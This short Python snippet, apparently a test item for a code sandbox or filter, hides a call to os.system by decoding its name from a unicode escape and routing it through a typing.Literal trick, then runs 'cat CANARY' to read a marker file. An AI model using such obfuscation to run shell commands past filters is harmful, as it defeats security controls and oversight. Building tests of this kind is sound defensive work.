import json
import os

T = json.loads('"\\u0073ystem"')
from typing import Literal
K = ["getcwd"]
Literal[K].__args__[0].append(T)
for n in K: x = getattr(os, n)
x("cat CANARY")
